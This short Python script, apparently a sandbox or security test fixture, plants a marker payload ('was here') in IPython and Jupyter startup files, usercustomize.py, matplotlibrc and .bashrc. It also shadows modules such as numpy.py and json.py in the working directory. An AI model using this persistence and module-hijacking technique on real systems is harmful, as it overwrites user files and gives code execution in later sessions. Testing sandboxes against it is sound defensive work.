"""Leaves code where the next Python, IPython, Jupyter or shell would run it."""

import os
from pathlib import Path

code = "raise SystemExit('was here')"
for home in (Path("@HOME@"), Path.home(), Path(os.environ.get("IPYTHONDIR", "/nowhere"))):
    for name in (
        ".ipython/profile_default/startup/00.py",
        "profile_default/startup/00.py",
        ".jupyter/jupyter_config.py",
        ".local/lib/python3.11/site-packages/usercustomize.py",
        ".config/matplotlib/matplotlibrc",
        ".bashrc",
    ):
        try:
            (home / name).parent.mkdir(parents=True, exist_ok=True)
            (home / name).write_text(code)
        except OSError as error:
            print(error)
for name in ("sitecustomize.py", "numpy.py", "nlpkit.py", "json.py"):
    Path(name).write_text(code)
